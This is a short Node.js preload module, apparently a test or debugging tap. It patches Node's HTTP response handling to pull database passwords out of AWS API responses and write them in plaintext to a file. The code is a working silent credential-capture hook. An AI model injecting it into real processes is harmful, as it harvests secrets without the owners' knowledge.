// Preloaded into a process by NODE_OPTIONS: writes every database password in AWS's answers to a file.
const { appendFileSync } = require('node:fs');
const { IncomingMessage } = require('node:http');

const push = IncomingMessage.prototype.push;
IncomingMessage.prototype.push = function (chunk, ...rest) {
  const [, password] = /<DbPassword>([^<]+)<\/DbPassword>/.exec(chunk?.toString() ?? '') ?? [];
  if (password !== undefined) appendFileSync(process.env.TAP_FILE, `${password.replaceAll('&amp;', '&')}\n`);
  return push.call(this, chunk, ...rest);
};
